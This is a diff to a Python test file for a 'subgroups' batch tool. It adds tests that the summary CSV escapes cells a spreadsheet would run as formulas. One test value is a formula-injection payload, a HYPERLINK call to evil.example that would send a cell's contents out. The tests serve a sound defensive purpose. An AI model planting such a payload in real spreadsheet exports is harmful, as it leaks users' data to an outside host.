@@ -9,7 +9,7 @@ import pytest
 import yaml
 from support import small_params
 
-from subgroups.batch import expand, run_batch
+from subgroups.batch import expand, run_batch, spreadsheet_safe
 from subgroups.errors import ParameterError
 from subgroups.params import load_params
 
@@ -38,16 +38,38 @@ def test_batch_on_a_local_cluster_isolates_failures(small_csv: Path, tmp_path: P
     bad_tree = small_params(small_csv, name="bad")
     bad_tree["data"]["outcome"] = {"column": "no_such_column", "type": "continuous"}
     bad = _write(tmp_path, "bad", bad_tree)
-    summary = run_batch([good, bad], out_dir=tmp_path / "runs", workers=2, progress=False)
-    assert list(summary["name"]) == ["good", "bad"]
+    hostile = _write(tmp_path, "hostile", small_params(small_csv, name=HOSTILE_NAME))  # an invalid name: the run fails
+    summary = run_batch([good, bad, hostile], out_dir=tmp_path / "runs", workers=2, progress=False)
+    assert list(summary["name"]) == ["good", "bad", HOSTILE_NAME]
     statuses = dict(zip(summary["name"], summary["status"]))
-    assert statuses == {"good": "succeeded", "bad": "failed"}
+    assert statuses == {"good": "succeeded", "bad": "failed", HOSTILE_NAME: "failed"}
     assert "no_such_column" in summary.set_index("name").loc["bad", "reason"]
     assert (tmp_path / "runs" / "good" / "index.html").is_file()
     assert not (tmp_path / "runs" / "bad" / "index.html").exists()
     overview = (tmp_path / "runs" / "index.html").read_text()
-    assert 'href="good/index.html"' in overview and "1 failed" in overview
-    assert pd.read_csv(tmp_path / "runs" / "summary.csv").shape[0] == 2
+    assert 'href="good/index.html"' in overview and "2 failed" in overview
+    written = pd.read_csv(tmp_path / "runs" / "summary.csv")
+    assert written.shape[0] == 3
+    assert list(written["name"]) == ["good", "bad", "'" + HOSTILE_NAME]  # a spreadsheet shows it as text, never runs it
+    assert written.loc[0, "effect"] == pytest.approx(summary.loc[0, "effect"])  # numbers stay numbers, negative ones too
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+def test_summary_cells_that_a_spreadsheet_would_run_start_with_a_quote():
+    frame = pd.DataFrame(
+        {
+            "name": ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok-run", "a=b"],
+            "effect": [-0.5, 0.1, -2.0, 0.0, 1.0, 2.0, 3.0, 4.0],
+            "reason": ["-o is wrong", "", None, "fine", "x", "y", "z", "w"],
+        }
+    )
+    safe = spreadsheet_safe(frame)
+    assert list(safe["name"]) == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "ok-run", "a=b"]
+    assert list(safe["reason"][:2]) == ["'-o is wrong", ""] and safe["reason"][2] is None
+    assert list(safe["effect"]) == [-0.5, 0.1, -2.0, 0.0, 1.0, 2.0, 3.0, 4.0]
+    assert frame.loc[0, "name"] == "=1+1"  # a copy: the returned summary keeps the raw values
 
 
 def test_results_identical_with_one_or_two_workers(small_csv: Path, tmp_path: Path):
